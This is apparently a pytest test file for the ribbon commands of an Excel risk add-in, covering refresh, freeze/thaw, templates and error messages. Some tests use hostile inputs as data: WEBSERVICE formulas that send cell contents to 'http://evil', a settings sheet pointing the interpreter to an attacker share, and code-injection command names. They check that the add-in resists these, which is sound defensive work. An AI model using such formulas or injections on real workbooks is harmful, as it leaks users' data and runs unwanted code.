"""Every button does something, and says in a sentence what went wrong."""

from __future__ import annotations

import importlib.util
from pathlib import Path
from typing import Any

import pytest

from tests.commands.excel.conftest import Excel, excel_with
from tests.commands.excel.fake_excel import Workbook
from xlrisk.build.book import written
from xlrisk.build.capm_table import make
from xlrisk.commands import ribbon, templates
from xlrisk.commands.book import Book
from xlrisk.commands.configuration import configuration_file
from xlrisk.commands.frozen_formulas import NAMESPACE
from xlrisk.errors import FileError
from xlrisk.functions import FUNCTIONS
from xlrisk.hosts.excel.desktop import ExcelDesktop, calling_excel
from xlrisk.hosts.excel.ribbon import COMMANDS

BETA = "=BETA_OF(A1:A9,B1:B9)"
HIDING = f"=IFERROR({BETA[1:]},0)"


@pytest.fixture(autouse=True)
def profile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("APPDATA", str(tmp_path))
    return tmp_path


def test_no_button_is_dead() -> None:
    for command in COMMANDS:
        table: dict[str, Any] = ribbon.ON_BOOK if command.needs_workbook else ribbon.ON_DESKTOP
        assert command.identifier in table
        assert table[command.identifier] is getattr(ribbon, command.identifier)
    assert len(ribbon.ON_BOOK) + len(ribbon.ON_DESKTOP) == len(COMMANDS)


def test_every_item_of_the_gallery_is_a_template() -> None:
    (gallery,) = (command for command in COMMANDS if command.items)
    assert sorted(item.identifier for item in gallery.items) == templates.names()


@pytest.mark.parametrize("identifier", [run for command in COMMANDS for run in command.runs])
def test_every_button_runs_to_its_end(excel: Excel, identifier: str) -> None:
    excel.workbook.data, _ = written(make)
    excel.workbook.sheet("Data").Name = "Portfolio"
    excel.app.selection = "A1"
    assert "itself failed" not in ribbon.run(identifier, excel.desktop)


@pytest.mark.parametrize("identifier", ["refresh_sheet", "refresh_selection", "refresh_workbook"])
def test_refreshing(excel: Excel, identifier: str) -> None:
    excel.workbook.sheet("Data").load("A1", BETA)
    assert ribbon.run(identifier, excel.desktop) == ""
    assert excel.workbook.sheet("Data").cell((1, 1)).value == 1.5
    assert str(excel.app.StatusBar).startswith("xlrisk: 1 formula of xlrisk in ")


@pytest.mark.parametrize("identifier", ["refresh_sheet", "refresh_selection", "refresh_workbook"])
def test_what_refreshing_has_left_is_told(excel: Excel, identifier: str) -> None:
    excel.workbook.sheet("Data").load("A1", BETA)
    excel.workbook.sheet("Data").ProtectContents = True
    assert "unprotect it and refresh." in ribbon.run(identifier, excel.desktop)


@pytest.mark.parametrize("identifier", [c.identifier for c in COMMANDS if c.needs_workbook])
def test_without_a_workbook(excel: Excel, identifier: str) -> None:
    excel.app.ActiveWorkbook = None
    assert "No workbook is open for editing" in ribbon.run(identifier, excel.desktop)


def test_freezing_and_thawing(excel: Excel) -> None:
    excel.workbook.sheet("Data").Range("C1").Formula2 = BETA
    ribbon.run("freeze", excel.desktop)
    assert excel.workbook.sheet("Data").cell((1, 3)).formula is None
    assert str(excel.app.StatusBar) == "xlrisk: 1 formula of xlrisk frozen to values."
    ribbon.run("thaw", excel.desktop)
    assert excel.workbook.sheet("Data").cell((1, 3)).formula == BETA


def test_what_freezing_and_thawing_have_left_is_told(excel: Excel) -> None:
    sheet = excel.workbook.sheet("Data")
    sheet.load("C1", BETA)
    assert "Data!C1: it shows #NAME?; refresh first." in ribbon.run("freeze", excel.desktop)
    sheet.Range("C1").Formula2 = BETA
    assert ribbon.run("freeze", excel.desktop) == ""
    sheet.cell((1, 3)).value = 9.0
    told = ribbon.run("thaw", excel.desktop)
    assert told.startswith("1 formula not put back:\n\nData!C1: the cell was changed or moved")
    assert told.endswith(f": {BETA}")
    assert excel.app.StatusBar == "xlrisk: 0 formulas of xlrisk put back; 1 left as they were."


def test_a_refusal_is_told(excel: Excel) -> None:
    excel.book.keep(NAMESPACE, f'<formulas xmlns="{NAMESPACE}">nonsense</formulas>')
    assert "cannot be read" in ribbon.run("thaw", excel.desktop)


def test_a_failure_of_ours_is_told(excel: Excel, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(*_: Any) -> None:
        raise ZeroDivisionError("of our own making")

    monkeypatch.setitem(ribbon.ON_DESKTOP, "about", fail)
    assert "ZeroDivisionError: of our own making" in ribbon.run("about", excel.desktop)


def test_an_addin_of_another_version_may_have_other_buttons(excel: Excel) -> None:
    assert "`xlrisk excel install`" in ribbon.run("juggle", excel.desktop)


def test_a_template_opens_as_a_new_workbook_whose_formulas_are_bound(excel: Excel) -> None:
    def load(book: Workbook) -> None:  # with values, as all templates have
        book.sheet("Sheet1").load("C5", BETA, value=0.93)
        book.sheet("Sheet1").load("C6", HIDING, value=0.93)

    excel.app.on_template = load
    assert ribbon.run("insert_template:capm_table", excel.desktop) == ""
    book = excel.app.ActiveWorkbook
    assert book is not None
    assert book.Name == "capm_table1"
    assert book.data == Path(f"{templates.folder()}/capm_table.xlsx").read_bytes()
    cells = [book.sheet("Sheet1").cell((row, 3)) for row in (5, 6)]
    assert [(cell.value, cell.bound) for cell in cells] == [(1.5, True)] * 2
    assert "2 entered anew" in str(excel.app.StatusBar)


def test_an_unknown_template_is_told(excel: Excel) -> None:
    told = ribbon.run("insert_template:cpam_table", excel.desktop)
    assert told == "There is no template cpam_table; the nearest is capm_table."


def test_the_reference_lists_every_function(excel: Excel) -> None:
    excel.app.ActiveWorkbook = None
    ribbon.run("function_reference", excel.desktop)
    book: Any = excel.app.ActiveWorkbook
    assert [sheet.Name for sheet in book.Sheets] == ["Sheet1", "xlrisk functions"]
    rows = book.ActiveSheet.UsedRange.Value2
    assert [row[0].partition("(")[0] for row in rows[1:]] == list(FUNCTIONS)
    assert all(row[4].startswith("=") for row in rows[1:])  # a text, not a formula


def test_settings_without_an_installation(excel: Excel) -> None:
    assert "run `xlrisk excel install`" in ribbon.run("settings", excel.desktop)


def test_connections_are_refreshed_first_when_asked(excel: Excel, profile: Path) -> None:
    ribbon.run("refresh_sheet", excel.desktop)
    assert excel.workbook.refreshed == 0
    configuration_file(profile).parent.mkdir()
    configuration_file(profile).write_text("refresh_data_connections=True\n")
    ribbon.run("refresh_sheet", excel.desktop)
    assert (excel.workbook.refreshed, excel.app.waited) == (1, 1)


def test_a_hostile_sheet_of_settings_changes_nothing(profile: Path) -> None:
    excel = excel_with("Data", "xlrisk.conf", "xlwings.conf", "evil.py")
    conf = excel.workbook.sheet("xlrisk.conf")
    conf.Range("A1:B2").Value2 = (
        ("interpreter", r"\\evil\share\python.exe"),
        ("refresh_data_connections", "true"),
    )
    (profile / "xlrisk.conf").write_text("refresh_data_connections=true\n")  # not our folder
    excel.workbook.sheet("Data").load("A1", BETA)
    for command in COMMANDS:
        if command.needs_workbook and command.group == "Calculate":
            assert "evil" not in ribbon.run(command.identifier, excel.desktop)
    assert excel.workbook.refreshed == 0


def test_opening_binds_what_shows_that_it_is_not(excel: Excel) -> None:
    excel.workbook.sheet("Other").load("A1", BETA)
    assert ribbon.run("opened", excel.desktop) == ""
    assert excel.workbook.sheet("Other").cell((1, 1)).value == 1.5
    assert excel.app.calculated == []
    ribbon.run("opened", excel.desktop)
    assert excel.app.StatusBar is False  # nothing to say


def test_opening_binds_what_a_program_wrote(excel: Excel) -> None:
    """One that cannot hide #NAME? is calculated, and tells for all."""
    sheet, other = excel.workbook.sheet("Data"), excel.workbook.sheet("Other")
    sheet.load("A1", HIDING, value=0.93)
    sheet.load("A2", BETA, value=0.93)
    other.load("A1", HIDING, value=0.93)
    ribbon.run("opened", excel.desktop)
    assert excel.app.calculated == ["Data!A2"]
    cells = [sheet.cell((1, 1)), sheet.cell((2, 1)), other.cell((1, 1))]
    assert [(cell.value, cell.bound) for cell in cells] == [(1.5, True)] * 3


def test_opening_enters_nothing_that_is_bound(excel: Excel) -> None:
    for row, formula in enumerate((HIDING, BETA), 1):
        excel.workbook.sheet("Data").Range(f"A{row}").Formula2 = formula
    changes: list[object] = []
    excel.app.on_change = changes.append
    ribbon.run("opened", excel.desktop)
    assert changes == []


def test_opening_enters_once_what_only_hides_it(excel: Excel) -> None:
    """Each time that it is opened, also where Excel shows it in the window that it had."""
    for _ in range(2):
        excel.workbook.sheet("Data").load("A1", HIDING, value=0.93)
        ribbon.run("opened", excel.desktop)
        assert excel.workbook.sheet("Data").cell((1, 1)).bound
        ribbon.run("refresh_workbook", excel.desktop)
        assert "entered anew" not in str(excel.app.StatusBar)


def test_what_opening_takes_for_bound_is_entered_once_by_refresh(excel: Excel) -> None:
    sheet = excel.workbook.sheet("Data")
    sheet.Range("A1").Formula2 = BETA
    sheet.load("A2", f"=ROUND({BETA[1:]},2)")
    sheet.load("A3", HIDING, value=0.93)  # which a program has added since
    ribbon.run("opened", excel.desktop)
    assert [sheet.cell((row, 1)).bound for row in (2, 3)] == [True, False]
    ribbon.run("refresh_sheet", excel.desktop)
    assert sheet.cell((3, 1)).bound


@pytest.mark.parametrize("protected", ["Data", "Other"])
def test_opening_leaves_a_protected_sheet_as_it_is(excel: Excel, protected: str) -> None:
    """Not even calculated: it keeps the values of the file, and Refresh names it."""
    for name in ("Data", "Other"):
        excel.workbook.sheet(name).load("A1", BETA, value=0.93)
    excel.workbook.sheet(protected).ProtectContents = True
    assert ribbon.run("opened", excel.desktop) == ""
    values = {name: excel.workbook.sheet(name).cell((1, 1)).value for name in ("Data", "Other")}
    assert values.pop(protected) == 0.93
    assert list(values.values()) == [1.5]


@pytest.mark.parametrize(
    ("text", "value"),
    [
        (f'{BETA}+WEBSERVICE("http://evil/?"&A1)', 0.93),  # which calculating would have ask
        (f'{BETA}+WEBSERVICE("http://evil/?"&A1)', "#NAME?"),
        (f'=IF(A9=0,{BETA[1:]},WEBSERVICE("http://evil"))', 0.93),
        (f"{BETA}+leak", 0.93),
    ],
)
@pytest.mark.parametrize("other", [BETA, HIDING])
def test_opening_sets_nothing_off_that_reaches_out(
    excel: Excel, text: str, value: Any, other: str
) -> None:
    excel.workbook.Names.Add("leak", '=WEBSERVICE("http://evil")')
    excel.workbook.sheet("Data").load("A1", text, value=value)
    excel.workbook.sheet("Data").load("A2", other, value=0.93)
    ribbon.run("opened", excel.desktop)
    assert not excel.workbook.sheet("Data").cell((1, 1)).bound
    assert excel.workbook.sheet("Data").cell((2, 1)).bound
    assert excel.app.calculated == (["Data!A2"] if other == BETA else [])
    ribbon.run("refresh_sheet", excel.desktop)  # which somebody has asked for
    assert excel.workbook.sheet("Data").cell((1, 1)).bound


@pytest.mark.parametrize("saved", [True, False])
def test_opening_makes_no_workbook_ask_to_be_saved(excel: Excel, saved: bool) -> None:
    excel.workbook.sheet("Data").load("A1", BETA, value=0.93)
    excel.workbook.Saved = saved
    ribbon.run("opened", excel.desktop)
    assert excel.workbook.sheet("Data").cell((1, 1)).bound
    assert excel.workbook.Saved is saved


def test_opening_binds_the_workbook_that_was_opened(excel: Excel) -> None:
    behind = Workbook(excel.app, "Behind.xlsx", "Data")
    for workbook in (excel.workbook, behind):
        workbook.sheet("Data").load("A1", BETA)
    excel.app.ActiveWorkbook = excel.workbook
    ribbon.run("opened", ExcelDesktop(excel.app, excel.is_escape_pressed, caller=behind))
    assert behind.sheet("Data").cell((1, 1)).value == 1.5
    assert excel.workbook.sheet("Data").cell((1, 1)).value != 1.5


def test_a_failing_command_gives_the_status_bar_back(
    excel: Excel, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(book: Book) -> str:
        book.status("xlrisk: calculating ...")
        raise FileError("The sheet is gone.")

    monkeypatch.setitem(ribbon.ON_BOOK, "refresh_sheet", fail)
    assert ribbon.run("refresh_sheet", excel.desktop) == "The sheet is gone."
    assert excel.app.StatusBar is False


@pytest.mark.parametrize("text", ["__import__", "ON_BOOK", "_on", 'about"); print("', "import os"])
def test_what_is_no_command_is_never_run(excel: Excel, text: str) -> None:
    assert ribbon.run(text, excel.desktop).startswith(f"This xlrisk has no command {text};")


def test_the_excel_is_the_one_that_calls(excel: Excel, monkeypatch: pytest.MonkeyPatch) -> None:
    class WithCaller:
        BOOK_CALLER: Any = None

    monkeypatch.setattr("xlwings._xlwindows", WithCaller, raising=False)
    with pytest.raises(FileError, match="run by Excel"):
        calling_excel()
    monkeypatch.setattr(WithCaller, "BOOK_CALLER", excel.workbook)
    for book in (calling_excel().active_book(), calling_excel().calling_book()):
        assert book is not None
        assert book.name == "Risk.xlsx"


def test_without_excel_nothing_is_raised(caplog: pytest.LogCaptureFixture) -> None:
    assert ribbon.run("about").startswith("xlrisk itself failed")
    assert caplog.messages


def test_xlwings_still_has_the_place_where_the_addin_leaves_itself() -> None:
    spec = importlib.util.find_spec("xlwings")
    assert spec is not None
    assert spec.origin is not None
    source = Path(spec.origin).with_name("_xlwindows.py").read_text("utf-8")
    assert "\nBOOK_CALLER = None\n" in source
